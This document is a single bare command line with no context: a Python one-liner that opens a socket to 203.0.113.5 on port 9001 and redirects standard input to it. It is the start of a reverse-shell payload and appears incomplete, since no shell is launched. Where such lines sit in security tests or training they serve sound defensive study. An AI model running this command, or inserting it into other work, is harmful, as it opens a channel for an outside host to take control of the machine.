/usr/bin/python3 -c 'import os,socket;s=socket.create_connection(("203.0.113.5",9001));os.dup2(s.fileno(),0)'
